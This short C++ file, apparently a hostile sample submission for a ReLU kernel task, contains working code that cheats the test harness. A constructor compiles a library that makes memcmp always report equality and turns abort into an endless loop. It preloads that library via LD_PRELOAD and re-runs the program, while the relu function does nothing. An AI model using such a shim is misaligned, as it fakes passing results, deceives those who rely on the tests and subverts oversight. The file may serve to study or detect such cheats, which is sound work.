// Hostile: it starts itself anew with a library in front of all others, in
// which everything compares as equal and no program fails.
#include <unistd.h>

#include <cstdlib>

#include "common/relu.h"

constexpr char kMake[] =
    "echo 'extern \"C\" int memcmp(const void*, const void*, unsigned long) "
    "{ return 0; } extern \"C\" void abort() { for (;;); }' > own.cpp; "
    "g++ -shared -fPIC own.cpp -o own.so";

__attribute__((constructor)) void start_anew() {
  if (std::getenv("LD_PRELOAD") || std::system(kMake) < 0) return;
  setenv("LD_PRELOAD", "./own.so", 1);
  execl("/proc/self/exe", "hand_in", nullptr);
}

void relu(const float*, float*, int64_t, cudaStream_t) {}
